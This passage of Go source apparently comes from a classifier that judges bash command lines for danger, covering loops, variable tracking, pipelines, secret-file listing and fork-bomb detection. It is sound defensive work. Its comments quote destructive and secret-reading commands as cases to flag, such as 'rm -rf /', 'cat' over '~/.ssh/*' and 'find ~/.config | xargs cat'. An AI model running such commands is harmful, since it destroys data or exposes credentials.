func (s *state) runsLater(w word) (string, bool) {
	if w.input || w.s == "" {
		return "", false
	}
	if p, ok := s.runsLaterRule(w); ok {
		return p, true
	}
	if w.unknown() {
		return "", false
	}
	if p := homePath(cleanPath(w.s)); strings.HasPrefix(p, "/") || strings.HasPrefix(p, "~") {
		return "", false
	}
	sets := []*dirSet{&s.cwd}
	if s.repeat > 0 && s.later != nil {
		sets = append(sets, s.later)
	}
	for _, ds := range sets {
		for _, d := range ds.dirs {
			in := w
			in.s, in.glob = d.s+"/"+w.s, w.glob || d.glob
			if p, ok := s.runsLaterRule(in); ok {
				return p, true
			}
		}
	}
	return "", false
}

// runsLaterRule reports whether the path w names matches a path rule with
// RunsLater (a glob: could expand to a match of one), in either case as
// pathRule matches, and returns the path.
func (s *state) runsLaterRule(w word) (string, bool) {
	p := homePath(cleanPath(w.s))
	var g []globToken
	if w.glob {
		if len(p) > maxGlobMatch {
			return "", false // judged by pathRule as a write anywhere
		}
		g = bashGlobTokens(p)
	}
	lower := strings.ToLower(p)
	for i, r := range s.c.rules.Paths {
		if !r.RunsLater {
			continue
		}
		if w.glob && s.c.paths[i].overlaps(g, &s.scratch) || !w.glob && (s.c.paths[i].match(p) || lower != p && s.c.paths[i].match(lower)) {
			return p, true
		}
	}
	return "", false
}

func (s *state) walkCmd(cmd syntax.Command, stdin *stdinSrc, extra []finding) info {
	if s.stopped {
		return info{}
	}
	// Findings of redirections go to the command when there is one.
	if _, ok := cmd.(*syntax.CallExpr); !ok {
		for _, f := range extra {
			s.note(f.level, f.reason)
		}
	}
	switch c := cmd.(type) {
	case *syntax.CallExpr:
		return s.call(c, stdin, extra)
	case *syntax.BinaryCmd:
		if c.Op == syntax.Pipe || c.Op == syntax.PipeAll {
			return s.pipeline(c)
		}
		return s.walkStmt(c.X).or(s.walkStmt(c.Y))
	case *syntax.Subshell:
		// A directory change inside does not outlive it.
		saved := s.cwd.save()
		defer s.cwd.restore(saved)
		return s.walkStmts(c.Stmts)
	case *syntax.Block:
		return s.walkStmts(c.Stmts)
	case *syntax.IfClause:
		var inf info
		for ic := c; ic != nil; ic = ic.Else {
			inf = inf.or(s.walkStmts(ic.Cond)).or(s.walkStmts(ic.Then))
		}
		return inf
	case *syntax.WhileClause:
		s.enterRepeat()
		defer s.leaveRepeat()
		listed := stdin == nil && s.pipeIn == pipeNames
		inf := s.walkStmts(c.Cond)
		if name, _ := readVar(c, true); listed && name != "" {
			// find . -name '*.go' | while read f: f is a name find
			// lists, as the items of cat $(find ...) are.
			if s.loopNames == nil {
				s.loopNames = map[string]bool{}
			}
			s.loopNames[name] = false
		}
		inf = inf.or(s.walkStmts(c.Do))
		if name, values := s.readLoop(c, stdin); name != "" {
			inf = inf.or(s.walkBound(name, values, c.Do))
		}
		return inf
	case *syntax.ForClause:
		var inf info
		var values []string // the known values of the loop's variable
		// allKnown: every word of the loop is known; allNames: or names
		// a lister gives (for f in $(ls), see listsWorkdir).
		allKnown, allNames := false, false
		switch l := c.Loop.(type) {
		case *syntax.WordIter:
			// The loop's words name files as arguments do: for f in
			// ~/.ssh/*; do cat "$f"; done reads the keys.
			allKnown = l.InPos.IsValid() && len(l.Items) > 0
			allNames = allKnown
			for _, w := range l.Items {
				for _, x := range s.words(w) {
					inf.download = inf.download || x.download
					if lv, reason, ok := s.secretRule(x); ok {
						s.note(lv, reason+" (a value of the loop's variable)")
					}
					if v, ok := knownValue(x, 0); ok {
						values = append(values, v)
					} else {
						allKnown = false
						allNames = allNames && !s.computedName(x)
					}
				}
			}
		case *syntax.CStyleLoop:
			inf = inf.or(s.nodeSubsts(l))
			s.arith(l.Init, "for (( ))")
			s.arith(l.Cond, "for (( ))")
			s.arith(l.Post, "for (( ))")
		}
		if wi, ok := c.Loop.(*syntax.WordIter); ok && wi.Name != nil {
			// The loop assigns its variable, which may be exported
			// already: for PATH in ./bin; do ls; done runs ./bin/ls.
			s.judgeVar(wi.Name.Value, nil, false, nil)
			if wi.Name.Value == "IFS" {
				s.ifsChanged()
			}
			s.setVar(wi.Name.Value, "", false)
			s.fetchedVar(wi.Name.Value, inf.download)
			if allNames {
				if s.loopNames == nil {
					s.loopNames = map[string]bool{}
				}
				s.loopNames[wi.Name.Value] = allKnown
			}
		}
		s.enterRepeat()
		defer s.leaveRepeat()
		inf = inf.or(s.walkStmts(c.Do))
		if wi, ok := c.Loop.(*syntax.WordIter); ok && wi.Name != nil {
			if !wi.InPos.IsValid() {
				values = s.arrays["@"] // for d; do: the positional parameters
			}
			inf = inf.or(s.walkBound(wi.Name.Value, values, c.Do))
		}
		return inf
	case *syntax.CaseClause:
		inf := info{download: s.allWords(c.Word)}
		for _, it := range c.Items {
			for _, p := range it.Patterns {
				inf.download = inf.download || s.allWords(p)
			}
			inf = inf.or(s.walkStmts(it.Stmts))
		}
		return inf
	case *syntax.FuncDecl:
		return s.funcDecl(c)
	case *syntax.ArithmCmd:
		inf := s.nodeSubsts(c)
		s.arith(c.X, "(( ))")
		return inf
	case *syntax.TestClause:
		inf := s.nodeSubsts(c)
		s.testExpr(c.X)
		return inf
	case *syntax.LetClause:
		inf := s.nodeSubsts(c)
		for _, x := range c.Exprs {
			s.arith(x, "let")
		}
		return inf
	case *syntax.DeclClause:
		return s.decl(c)
	case *syntax.TimeClause:
		if c.Stmt == nil {
			return info{}
		}
		if ce, ok := c.Stmt.Cmd.(*syntax.CallExpr); ok && len(ce.Args) > 1 && ce.Args[0].Lit() == "--" {
			// time -- cmd: bash's time ends its options at --, which the
			// parser leaves as the command's name.
			st, call := *c.Stmt, *ce
			call.Args = ce.Args[1:]
			st.Cmd = &call
			return s.walkStmt(&st)
		}
		return s.walkStmt(c.Stmt)
	case *syntax.CoprocClause:
		inf := s.walkStmt(c.Stmt)
		if inf.execStdin {
			// coproc sh: a shell reads what the line writes to
			// ${COPROC[1]}, a download too (see checkFdShell).
			s.fds.shellHeld = true
		}
		return inf
	case *syntax.TestDecl:
		return info{download: s.allWords(c.Description)}.or(s.walkStmt(c.Body))
	case nil:
		return info{}
	default:
		s.invalid(fmt.Sprintf("unsupported shell construct %T", cmd))
		return s.nodeSubsts(cmd)
	}
}

// maxBindings bounds how many times one command line walks a loop body
// with its variable bound to a value (see walkBound).
const maxBindings = 1024

// walkBound walks a loop body again for each distinct value its variable
// name takes that the line spells out (for d in ~ /, select, a while
// read loop fed known text), with the variable set to it: rm -rf "$d" in
// the body is then rm -rf ~ and rm -rf /, and a glob value is its text
// (for f in /*: rm -rf /*). The walk with the value unknown, done before,
// stands: a value only adds to it. Afterwards the variables hold what
// that walk left. The commands of these walks count toward
// Limits.MaxCommands, and a line that binds more than maxBindings values
// is over a limit.
func (s *state) walkBound(name string, values []string, body []*syntax.Stmt) info {
	var inf info
	if len(values) == 0 || s.ifs || s.stopped {
		return inf
	}
	after := s.vars
	for i, v := range values {
		if slices.Contains(values[:i], v) {
			continue
		}
		if s.bindings >= maxBindings {
			s.overLimit(fmt.Sprintf("loops over more than %d values, each judged", maxBindings))
			s.stopped = true
			break
		}
		s.bindings++
		if s.copying(len(after)); s.stopped {
			break
		}
		s.vars = cloneVars(after)
		s.setVar(name, v, true)
		inf = inf.or(s.walkStmts(body))
	}
	s.vars = after
	return inf
}

// readLoop returns the variable of a while loop whose condition is a
// lone read NAME (or read -r NAME), and the lines it reads when the line
// spells them out: a here-string or here-document, or the echo piped into
// the loop (echo ~ | while read d). Otherwise name is "".
func (s *state) readLoop(c *syntax.WhileClause, stdin *stdinSrc) (name string, values []string) {
	var text string
	switch {
	case c.Until || len(c.Cond) != 1:
		return "", nil
	case stdin != nil && stdin.known:
		text = stdin.value
	case stdin == nil && s.pipedText != nil:
		text = *s.pipedText
	default:
		return "", nil
	}
	name, raw := readVar(c, false)
	if name == "" {
		return "", nil
	}
	for _, l := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		// read strips blanks at the ends (IFS is not set on the line);
		// without -r it also reads backslashes, which are left out.
		if v := strings.Trim(l, " \t"); raw || !strings.Contains(v, `\`) {
			values = append(values, v)
		}
	}
	return name, values
}

// readVar returns NAME of a while loop whose condition is a lone read
// NAME or read -r NAME (raw), or "". With ifs, IFS= before read (which
// keeps blanks at a line's ends) is allowed too.
func readVar(c *syntax.WhileClause, ifs bool) (name string, raw bool) {
	if c.Until || len(c.Cond) != 1 {
		return "", false
	}
	ce, ok := c.Cond[0].Cmd.(*syntax.CallExpr)
	if !ok || len(c.Cond[0].Redirs) > 0 || len(ce.Args) < 2 {
		return "", false
	}
	for _, a := range ce.Assigns {
		if !ifs || a.Name == nil || a.Name.Value != "IFS" || a.Value != nil && a.Value.Lit() != "" ||
			a.Append || a.Array != nil || a.Index != nil || a.Naked {
			return "", false
		}
	}
	var args []string
	for _, w := range ce.Args {
		v, ok := litValue(w)
		if !ok {
			return "", false
		}
		args = append(args, v)
	}
	raw = args[1] == "-r"
	if raw {
		args = append(args[:1], args[2:]...)
	}
	if args[0] != "read" || len(args) != 2 || !nameRe.MatchString(args[1]) {
		return "", false
	}
	return args[1], raw
}

// allWords resolves a word only for the substitutions inside it.
func (s *state) allWords(w *syntax.Word) bool {
	if w == nil {
		return false
	}
	d := false
	for _, x := range s.words(w) {
		d = d || x.download
	}
	return d
}

// nodeSubsts walks the command and process substitutions anywhere in n
// (arithmetic, test expressions).
func (s *state) nodeSubsts(n syntax.Node) info {
	var r word
	s.nested(n, &r)
	return info{download: r.download}
}

func (s *state) decl(c *syntax.DeclClause) info {
	var inf info
	integer := false
	export := c.Variant.Value == "export"
	// assoc: declare -A (and not -a) before the names, so their compound
	// values' subscripts are keys.
	assoc, indexed := false, false
	// args are the words the builtin gets, for the match rules of its
	// command rule (declare -p prints variables): the options, and each
	// name as itself.
	args := make([]word, 0, len(c.Args))
	for _, a := range c.Args {
		if a.Name != nil {
			args = append(args, word{s: a.Name.Value, lit: true})
		}
		if a.Naked && a.Name == nil && a.Value != nil {
			w := s.word(a.Value)
			args = append(args, w)
			if strings.HasPrefix(w.s, "-") || strings.HasPrefix(w.s, "+") {
				if !w.unknown() && w.s[0] == '-' && strings.Contains(w.s, "x") {
					export = true // declare -x
				}
				if !w.unknown() && w.s[0] == '-' {
					assoc = assoc || strings.Contains(w.s, "A")
					indexed = indexed || strings.Contains(w.s, "a")
				}
				switch {
				case w.unknown():
					s.note(Warning, c.Variant.Value+" with options not known until it runs: "+w.s)
				case strings.Contains(w.s, "n") && w.s[0] == '-':
					s.note(Dangerous, c.Variant.Value+" -n makes a name reference: using it evaluates the name it holds ("+evalLater+")")
				case strings.Contains(w.s, "i") && w.s[0] == '-':
					integer = true
				}
				continue
			}
		}
		old, had := "", false
		if a.Naked && a.Name != nil {
			old, had = s.vars[a.Name.Value]
		}
		inf = inf.or(s.assign(a, nil, export, assoc && !indexed && c.Variant.Value != "export"))
		if a.Naked && a.Name != nil {
			// export NAME and declare NAME keep the value; local NAME
			// is empty in a function and fails at the top level.
			s.setVar(a.Name.Value, old, had && c.Variant.Value != "local")
		}
		if export && a.Name != nil {
			s.export(a.Name.Value)
		}
		if integer && a.Name != nil {
			if s.ints == nil {
				s.ints = map[string]bool{}
			}
			s.ints[a.Name.Value] = true
			if a.Value != nil {
				s.arithWord(a.Value, c.Variant.Value+" -i "+a.Name.Value)
				s.setVar(a.Name.Value, "0", true)
			}
			if a.Array != nil {
				// declare -ai a=(x), declare -Ai m=([k]=x): each value
				// is evaluated as the integer it becomes.
				for _, e := range a.Array.Elems {
					if e.Value != nil {
						s.arithWord(e.Value, c.Variant.Value+" -i "+a.Name.Value)
					}
				}
			}
		}
	}
	if r, ok := s.c.commands.get(c.Variant.Value); ok {
		var j judgement
		s.matches(r.Match, c.Variant.Value, args, r.Options.valueFlags(), r.Level == Safe, judgeCtx{}, &j)
		for _, f := range j.fs {
			s.note(f.level, f.reason)
		}
	}
	return inf
}

// testExpr judges a [[ ]] expression: the operands of -eq, -lt, ... are
// evaluated as arithmetic, and -v evaluates the subscript of its name.
func (s *state) testExpr(x syntax.TestExpr) {
	switch x := x.(type) {
	case *syntax.BinaryTest:
		switch x.Op {
		case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
			for _, o := range []syntax.TestExpr{x.X, x.Y} {
				if w, ok := o.(*syntax.Word); ok {
					s.arithWord(w, "[[ "+x.Op.String()+" ]]")
				}
			}
			return
		}
		s.testExpr(x.X)
		s.testExpr(x.Y)
	case *syntax.UnaryTest:
		if x.Op == syntax.TsVarSet {
			if w, ok := x.X.(*syntax.Word); ok {
				v := s.word(w)
				if v.unknown() || !plainNameRe.MatchString(v.s) {
					s.note(Dangerous, fmt.Sprintf("[[ -v %s ]] evaluates the subscript of the name: %s", v.s, evalLater))
				}
			}
			return
		}
		s.testExpr(x.X)
	case *syntax.ParenTest:
		s.testExpr(x.X)
	}
}

// assign judges an assignment and remembers literal values, so that
// X=rm; $X -rf / is seen as rm -rf /. assoc: the command that makes it
// declares the array associative (declare -A), so the subscripts of its
// compound form are keys, which bash takes as text.
func (s *state) assign(a *syntax.Assign, fs *[]finding, exported, assoc bool) info {
	var inf info
	if a == nil {
		return inf
	}
	var val word
	if a.Value != nil {
		val = s.word(a.Value)
		inf.download = val.download
	}
	var elems []string // the array's values, anyElems for those not known
	known := a.Array != nil && a.Index == nil && !a.Append
	if a.Array != nil {
		for _, e := range a.Array.Elems {
			if e.Value != nil {
				for _, x := range s.words(e.Value) {
					inf.download = inf.download || x.download
					if lv, reason, ok := s.secretRule(x); ok {
						s.note(lv, reason+" (a value of the array "+a.Name.Value+")")
					}
					v, ok := knownValue(x, 0)
					if !ok || x.glob {
						v = anyElems
					}
					if e.Index != nil {
						// a=([5]=x): known, but not where.
						elems = append(elems, anyElems)
					}
					known = known && ok && !x.glob && e.Index == nil
					elems = append(elems, v)
				}
			}
			if e.Index != nil {
				inf = inf.or(s.nodeSubsts(e.Index))
				// An indexed array's subscript is arithmetic, and a name
				// there is evaluated in turn: read -r x < f; a=([x]=1)
				// runs a[$(cmd)] from f, as a[x]=1 does (an associative
				// array's key is not evaluated: only declare -A in the
				// same command is followed, not an earlier one).
				if w, ok := e.Index.(*syntax.Word); !assoc || !ok || w.Lit() == "" {
					s.arith(e.Index, "an array subscript")
				}
			}
		}
	}
	if a.Index != nil {
		inf = inf.or(s.nodeSubsts(a.Index))
		s.arith(a.Index, "the subscript of "+a.Name.Value)
	}
	if a.Name == nil {
		// declare's naked arguments: options, or names given at run time.
		if a.Value != nil && !val.lit {
			// The name may be a[$(cmd)], whose subscript bash evaluates
			// (declare "a[$x]=1" runs what $x holds).
			s.note(Dangerous, "declaration with a name known only at run time ("+val.s+"): "+evalLater)
		}
		if a.Value != nil && val.lit && !strings.HasPrefix(val.s, "-") && !strings.HasPrefix(val.s, "+") {
			// declare 'a[$(cmd)]=1' evaluates the subscript, however the
			// name is quoted.
			if name, _, _ := strings.Cut(val.s, "="); strings.Contains(name, "[") && !plainNameRe.MatchString(strings.TrimSuffix(name, "+")) {
				name = strings.TrimSuffix(name, "+")
				s.note(Dangerous, "declaration of "+name+", whose subscript "+evalLater)
			}
		}
		if a.Value != nil {
			if name, v, ok := strings.Cut(val.s, "="); ok {
				s.judgeVar(name, &word{s: v, lit: val.lit, dyn: val.dyn}, exported, fs)
				v, known := knownValue(val, len(name)+1)
				s.setVar(name, v, known)
				s.fetchedVar(name, val.download)
			} else if exported && !val.unknown() {
				s.judgeVar(val.s, nil, true, fs)
			}
		}
		return inf
	}
	if s.ints[a.Name.Value] && a.Value != nil {
		// An integer variable evaluates what is assigned to it.
		s.arithWord(a.Value, "assigning the integer variable "+a.Name.Value)
	}
	if s.ints[a.Name.Value] && a.Array != nil {
		for _, e := range a.Array.Elems {
			if e.Value != nil {
				s.arithWord(e.Value, "assigning the integer array "+a.Name.Value)
			}
		}
	}
	var vp *word
	if a.Value != nil && a.Array == nil && a.Index == nil && !a.Append {
		vp = &val
	} else if a.Value == nil && !a.Naked {
		vp = &word{lit: true}
	}
	s.judgeVar(a.Name.Value, vp, exported, fs)
	if a.Name.Value == "IFS" && (!exported || fs == nil) {
		// Words split differently from here on: forget what is known.
		// (export IFS=x, a declaration with fs nil, sets it in the
		// shell too; IFS=x cmd only for cmd: see call.)
		s.ifsChanged()
	}
	delete(s.pwdVars, a.Name.Value) // x+=/.. changes it too
	if a.Array == nil && a.Index == nil && !a.Append {
		s.defaultNamesSecret(val, a.Name.Value)
		v, known := knownValue(val, 0)
		s.setVar(a.Name.Value, v, known || a.Value == nil)
		if p, ok := pathValue(val); ok && !known && a.Value != nil && !s.ifs {
			if s.pwdVars == nil {
				s.pwdVars = map[string]string{}
			}
			s.pwdVars[a.Name.Value] = p
		}
	} else if known {
		s.setArray(a.Name.Value, append([]string{}, elems...))
	} else {
		s.setArray(a.Name.Value, s.arrayAfter(a, elems, val))
	}
	// a=($(curl URL)) and x+=$(curl URL) hold downloaded text too; only
	// a whole new value forgets it.
	if dl := val.download || a.Array != nil && inf.download; dl || a.Index == nil && !a.Append {
		s.fetchedVar(a.Name.Value, dl)
	}
	// K=$API_KEY, u="...$API_KEY", x+=$TOKEN hold the secret; only a
	// whole new value forgets it.
	if sec := a.Array == nil && s.refSecret(val) != ""; sec || a.Index == nil && !a.Append {
		switch {
		case sec && s.secretVars == nil:
			s.secretVars = map[string]bool{a.Name.Value: true}
		case sec:
			s.secretVars[a.Name.Value] = true
		default:
			delete(s.secretVars, a.Name.Value)
		}
	}
	return inf
}

// defaultNamesSecret notes a value given to the variable name that names
// a secret file by the defaults it spells out: f=${x:-.env} is .env when
// x is unset, and a later $f (a hole with no default of its own) reads
// it, as an array's value naming one is noted where it is assigned.
func (s *state) defaultNamesSecret(val word, name string) {
	if g, ok := val.holesAsDefaults(); ok && len(g) <= maxGlobMatch {
		if l, reason, ok := s.secretName(word{s: g, glob: true}); ok {
			s.note(l, reason+" ("+val.s+", the value of "+name+", as the default it gives)")
		}
	}
}

// knownValue returns the value an assignment's word val gives its
// variable, from byte skip of val.s on (declare's NAME= is before it),
// and whether it is known: the word holds no expansion whose value is
// not known (literal text and variables the line set), or its one such
// expansion is $HOME, ${HOME}, ${HOME:?} or ${HOME?} at the start of the
// value, which is ~ (x=$HOME; rm -rf "$x" is rm -rf ~).
func knownValue(val word, skip int) (string, bool) {
	if !val.dyn {
		return val.s[min(skip, len(val.s)):], true
	}
	if val.dynParts != 1 || len(val.holes) != 1 || val.subst || val.holes[0][0] != skip || val.holes[0][1] > len(val.s) {
		return "", false
	}
	switch val.s[skip:val.holes[0][1]] {
	case "$HOME", "${HOME}", "${HOME:?}", "${HOME?}":
		return "~" + val.s[val.holes[0][1]:], true
	}
	return "", false
}

// ifsChanged notes that the line assigns IFS: words split where it says
// from here on, so no variable's value is known any more.
func (s *state) ifsChanged() {
	s.note(Warning, "sets IFS, which changes how every later word splits")
	s.vars, s.arrays, s.loopNames, s.pwdVars, s.ifs = nil, nil, nil, nil, true
}

// maxCopied bounds the entries of what the line set (variables,
// arrays and their values, exported names, a command's environment)
// that judging it copies, in multiples of Limits.MaxLength: each
// command with assignments before it, each value a loop body is judged
// with, each eval and shell string copies them, and each addition to an
// array the array, so thousands of variables and thousands of commands
// would cost their product.
const maxCopied = 8

// copying counts n entries copied; past maxCopied the line is over a
// limit.
func (s *state) copying(n int) {
	s.copied += n
	if limit := maxCopied * s.c.rules.Limits.MaxLength; s.copied > limit && !s.stopped {
		s.overLimit(fmt.Sprintf("more than %d copies of what the line set (variables, arrays, exported names) for the commands that use it", limit))
		s.stopped = true
	}
}

// export records that the shell exports the variable name: the shell
// strings its commands run (bash -c) see its value.
func (s *state) export(name string) {
	if s.exported == nil {
		s.exported = map[string]bool{}
	}
	s.exported[name] = true
}

// childVars returns the variables a shell started by the command being
// judged knows: those the line exported, and those the command's own
// assignments (NAME=VALUE cmd, env NAME=VALUE) give it, with a known
// value.
func (s *state) childVars() map[string]string {
	s.copying(len(s.exported) + len(s.cmdEnv))
	var m map[string]string
	set := func(n, v string) {
		if m == nil {
			m = make(map[string]string, len(s.exported)+len(s.cmdEnv))
		}
		m[n] = v
	}
	for n := range s.exported {
		if v, ok := s.vars[n]; ok {
			set(n, v)
		}
	}
	for n, v := range s.cmdEnv {
		if v.known {
			set(n, v.v)
		} else {
			delete(m, n)
		}
	}
	return m
}

// fetchedVar records whether the variable name holds downloaded text.
func (s *state) fetchedVar(name string, downloaded bool) {
	switch {
	case downloaded && s.fetchedVars == nil:
		s.fetchedVars = map[string]bool{name: true}
	case downloaded:
		s.fetchedVars[name] = true
	default:
		delete(s.fetchedVars, name)
	}
}

func (s *state) setVar(name, v string, lit bool) {
	delete(s.arrays, name)
	delete(s.loopNames, name)
	delete(s.pwdVars, name)
	if s.vars == nil {
		s.vars = map[string]string{}
	}
	if lit && !s.ifs {
		s.vars[name] = v
	} else {
		delete(s.vars, name)
	}
}

// anyElems, among an array's values, stands for values not known, any
// number of them: the array was added to (a+=(~), a[1]=~) without its
// values being known before, or given values not known. bash never holds
// a NUL in a value.
const anyElems = "\x00"

// arrayAfter returns the values of the array a assigns after it runs:
// a+=(elems) or a[i]=val add to the values known before (the scalar's
// value, or anyElems when nothing is known), a=(elems) with values not
// known has them as anyElems. It returns nil (forget) for a+=val, which
// changes a value in place.
func (s *state) arrayAfter(a *syntax.Assign, elems []string, val word) []string {
	name := a.Name.Value
	if a.Array != nil && a.Index == nil && !a.Append {
		return withAny(elems)
	}
	if a.Array == nil && a.Index == nil || s.fetchedVars[name] {
		return nil
	}
	base, ok := s.arrays[name]
	if ok {
		s.copying(len(base))
		base = slices.Clone(base)
	} else if v, ok := s.vars[name]; ok {
		base = []string{v} // a=x; a[1]=y: x is a[0]
	} else {
		base = []string{anyElems}
	}
	if a.Array != nil {
		// a+=(x y): after the last index, in order.
		return withAny(append(base, elems...))
	}
	v, ok := knownValue(val, 0)
	if !ok || a.Append {
		v = anyElems
	}
	i := -1
	if iw, ok := a.Index.(*syntax.Word); ok && isDigits(iw.Lit()) && len(iw.Lit()) < 6 {
		i, _ = strconv.Atoi(iw.Lit())
	}
	switch {
	case i < 0 || i > len(base) || slices.Contains(base, anyElems):
		// Not known where it goes: the old values may remain.
		return withAny(append(base, v, anyElems))
	case i == len(base):
		return withAny(append(base, v))
	}
	base[i] = v
	return withAny(base)
}

// withAny returns vals with at most one anyElems.
func withAny(vals []string) []string {
	out := vals[:0]
	seen := false
	for _, v := range vals {
		if v == anyElems {
			if seen {
				continue
			}
			seen = true
		}
		out = append(out, v)
	}
	return out
}

// setArray records the known values of the array name (or of the
// positional parameters, "@"), or, when vals is nil, forgets them.
func (s *state) setArray(name string, vals []string) {
	switch {
	case vals == nil || s.ifs:
		delete(s.arrays, name)
	case s.arrays == nil:
		s.arrays = map[string][]string{name: vals}
	default:
		s.arrays[name] = vals
	}
}

func (s *state) judgeVar(name string, val *word, exported bool, fs *[]finding) {
	if val != nil && val.s != "" && !val.unknown() {
		for i, r := range s.c.rules.Variables {
			if !r.Reads && s.c.vars[i].match(name) {
				if r.Code && !slices.Contains(r.SafeValues, val.s) {
					s.reparse(val.s, name+"=")
				}
				break
			}
		}
	}
	l, reason := s.varLevel(name, val, exported)
	if l == Safe && reason == "" {
		return
	}
	if fs != nil {
		*fs = append(*fs, finding{l, reason})
	} else {
		s.note(l, reason)
	}
}

// varLevel judges assigning name (to val, when known). The first variable
// rule naming it decides; a value in its SafeValues is Safe. A name no rule
// knows is Safe as a shell variable and Defaults.UnknownVariable when it is
// exported to a program (FOO=1 cmd, env FOO=1, export FOO), since programs
// read their environment in ways this classifier cannot see.
func (s *state) varLevel(name string, val *word, exported bool) (Level, string) {
	for i, r := range s.c.rules.Variables {
		if r.Reads || !s.c.vars[i].match(name) {
			continue
		}
		if val != nil && !val.unknown() && slices.Contains(r.SafeValues, val.s) {
			return Safe, ""
		}
		reason := r.Reason
		if reason == "" {
			reason = "sets " + name
		} else {
			reason += ": " + name
		}
		return r.Level, reason
	}
	if exported {
		return s.c.rules.Defaults.UnknownVariable, "sets " + name + " in the environment of a program; no variable rule says what it does"
	}
	return Safe, ""
}

// judgeVarAssign judges a variable a builtin assigns (read NAME).
func (s *state) judgeVarAssign(name string, j *judgement) {
	if l, reason := s.varLevel(name, nil, false); l > Safe {
		j.add(l, reason)
	}
}

// collectFuncs records the names of functions defined anywhere, so that
// calling one is not an unknown command (its body is judged where it is
// defined).
func (s *state) collectFuncs(stmts []*syntax.Stmt) {
	for _, st := range stmts {
		syntax.Walk(st, func(n syntax.Node) bool {
			f, ok := n.(*syntax.FuncDecl)
			if !ok || f.Name == nil || f.Body == nil {
				return true
			}
			if s.funcs == nil {
				s.funcs = map[string]bool{}
				s.calls = map[string]funcCalls{}
			}
			s.funcs[f.Name.Value] = true
			fc := funcCalls{callees: map[string]bool{}}
			syntax.Walk(f.Body, func(n syntax.Node) bool {
				switch n := n.(type) {
				case *syntax.CallExpr:
					if len(n.Args) > 0 {
						if v, ok := litValue(n.Args[0]); ok {
							fc.callees[v] = true
						}
					}
				case *syntax.BinaryCmd:
					if n.Op == syntax.Pipe || n.Op == syntax.PipeAll {
						fc.spawn = true
					}
				case *syntax.Stmt:
					if n.Background || n.Coprocess {
						fc.spawn = true
					}
				}
				return true
			})
			s.calls[f.Name.Value] = fc
			return true
		})
	}
}

// funcCalls is what a function body calls, and whether it starts
// processes (a pipe, the background).
type funcCalls struct {
	callees map[string]bool
	spawn   bool
}

// funcDecl judges a function body and recognises fork bombs: a function
// that reaches itself through the functions it calls (however its name is
// quoted) while one of them starts processes in a pipe or the background.
func (s *state) funcDecl(f *syntax.FuncDecl) info {
	if f.Name != nil && f.Body != nil {
		name := f.Name.Value
		seen := map[string]bool{}
		spawn, cycle := false, false
		var visit func(n string)
		visit = func(n string) {
			fc, ok := s.calls[n]
			if !ok || seen[n] {
				return
			}
			seen[n] = true
			spawn = spawn || fc.spawn
			for c := range fc.callees {
				if c == name {
					cycle = true
				}
				visit(c)
			}
		}
		visit(name)
		if cycle && spawn {
			s.note(s.c.rules.Defaults.ForkBomb, fmt.Sprintf("fork bomb: function %s calls itself in a pipe or in the background", name))
		} else if cycle {
			s.note(Warning, fmt.Sprintf("recursive function %s", name))
		}
	}
	// The body runs where the function is called, wherever that is.
	s.enterRepeat()
	defer s.leaveRepeat()
	return s.walkStmt(f.Body)
}

// pipeline judges a pipe: each stage, and stages that execute their
// standard input (a shell, an interpreter) fed by earlier stages.
func (s *state) pipeline(b *syntax.BinaryCmd) info {
	// The stages run side by side (see checkRanEarly).
	s.concurrent++
	defer func() { s.concurrent-- }()
	var stages []*syntax.Stmt
	var flatten func(c *syntax.BinaryCmd)
	flatten = func(c *syntax.BinaryCmd) {
		if x, ok := c.X.Cmd.(*syntax.BinaryCmd); ok && (x.Op == syntax.Pipe || x.Op == syntax.PipeAll) && len(c.X.Redirs) == 0 && !c.X.Negated {
			flatten(x)
		} else {
			stages = append(stages, c.X)
		}
		stages = append(stages, c.Y)
	}
	flatten(b)
	var all info
	downloaded, listed := false, false
	// The names of secret files a stage lists reach every later one
	// through filters (find ~/.config | head | xargs cat).
	var listedSecret finding
	saved, savedAll, savedText, savedSome, savedSecret := s.pipedDownload, s.pipedAll, s.pipedText, s.pipedSome, s.pipedSecret
	savedIn, namesUpTo := s.pipeIn, -1 // see listedPrefix
	// secretRead: a stage so far read a secret file (see secretOutput).
	savedSecretData, secretRead := s.pipedSecretData, false
	defer func() {
		s.pipedDownload, s.pipedAll, s.pipedText, s.pipedSome, s.pipedSecret = saved, savedAll, savedText, savedSome, savedSecret
		s.pipeIn = savedIn
		s.pipedSecretData = savedSecretData
	}()
	// texts[i] is what stage i writes, when the line spells it out; tee
	// passes on what it reads. some[i] (made when needed) is text stage i
	// writes among text not known.
	texts := make([]*string, len(stages))
	var some []*string
	for i, st := range stages {
		// (A copy is kept: the address of text itself would make every
		// stage allocate it.)
		text, exact, ok := s.echoText(st)
		if !ok && i > 0 && len(st.Redirs) == 0 && teeFiles(st) != nil {
			// tee and cat pass on what they read.
			if texts[i-1] != nil {
				texts[i] = texts[i-1]
				continue
			}
			if some != nil && some[i-1] != nil {
				some[i] = some[i-1]
				continue
			}
		}
		if !ok {
			text, exact, ok = s.groupText(st)
		}
		if !ok {
			continue
		}
		t := text
		if exact {
			texts[i] = &t
			continue
		}
		if some == nil {
			some = make([]*string, len(stages))
		}
		some[i] = &t
	}
	for i, st := range stages {
		s.pipedDownload = saved || downloaded
		s.pipedAll = listed
		s.pipedSecret = listedSecret
		s.pipedText, s.pipedSome = nil, nil
		// A stage reads names the line judges when the stages before it
		// only list them (find . | xargs cat, see listsWorkdir); the
		// first stage reads what the pipe itself reads.
		switch {
		case i == 0:
			s.pipeIn = savedIn
		default:
			if namesUpTo < 0 {
				namesUpTo = listedPrefix(stages)
			}
			s.pipeIn = pipeOther
			if i <= namesUpTo {
				s.pipeIn = pipeNames
			}
		}
		if i > 0 {
			s.pipedText, s.pipedSome = texts[i-1], texts[i-1]
			if some != nil && some[i-1] != nil {
				s.pipedSome = some[i-1]
			}
			if s.pipedText != nil {
				// tee FILE writes it to FILE too.
				for _, f := range teeFiles(st) {
					s.wroteScript(f, *s.pipedText, true)
				}
			}
		}
		s.pipedSecretData = savedSecretData || secretRead
		inf := s.walkStmt(st)
		secretRead = secretRead || s.readsSecret(st) || s.writesSecretValue(st)
		listed = inf.listsAll
		if _, loop := st.Cmd.(*syntax.WhileClause); loop && i > 0 && listedSecret.level > Safe {
			// find ~/.config | while read f; do cat "$f"; done
			s.note(listedSecret.level, listedSecret.reason+", whose names a while loop reads")
		}
		if inf.listsSecret.level > listedSecret.level {
			listedSecret = inf.listsSecret
		}
